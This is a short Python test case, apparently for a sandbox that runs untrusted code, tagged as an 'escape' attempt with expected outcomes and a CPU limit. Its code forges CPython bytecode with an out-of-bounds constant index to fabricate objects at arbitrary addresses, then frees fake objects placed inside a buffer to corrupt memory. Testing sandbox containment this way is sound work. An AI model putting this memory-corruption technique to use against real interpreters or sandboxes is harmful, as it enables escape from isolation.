import opcode
import struct
import types

RESUME, EXTENDED_ARG, LOAD_CONST, RETURN_VALUE = (
    opcode.opmap[name] for name in ("RESUME", "EXTENDED_ARG", "LOAD_CONST", "RETURN_VALUE")
)
BYTES_DATA, TUPLE_ITEMS = 16, 12


def object_at(address):
    pointer = struct.pack("<I", address)
    index = ((id(pointer) + BYTES_DATA - (id(()) + TUPLE_ITEMS)) // 4) & 0x3FFFFFFF
    high = [part for shift in (24, 16, 8) for part in (EXTENDED_ARG, index >> shift & 255)]
    forged = bytes([RESUME, 0, *high, LOAD_CONST, index & 255, RETURN_VALUE, 0])
    return types.FunctionType((lambda: 1).__code__.replace(co_code=forged, co_consts=()), {})()


# An object that says it can be freed, in the middle of another one.
thing = struct.pack("<III", 0, id(list), 5) * 1000
print("before", end="", flush=True)
for place in range(0, 4000, 4):
    try:
        del (each := [object_at(id(thing) + BYTES_DATA + place)])[0]
    except BaseException:
        pass
#> class: "escape"
#> outcome: ["failure", "completed", "cpu_limit", "memory_limit"]
#> stdout_starts: "before"
#> limits: {"max_cpu_seconds": 0.5}
